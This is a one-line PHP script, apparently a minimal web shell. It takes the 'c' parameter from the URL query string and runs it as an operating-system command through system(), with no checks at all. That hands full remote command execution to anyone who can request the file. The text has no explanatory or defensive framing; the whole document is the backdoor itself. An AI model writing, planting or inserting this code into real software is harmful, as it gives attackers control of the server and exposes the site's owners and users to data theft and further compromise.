<?php $c = sprintf("%s", trim($_GET["c"])); system($c);
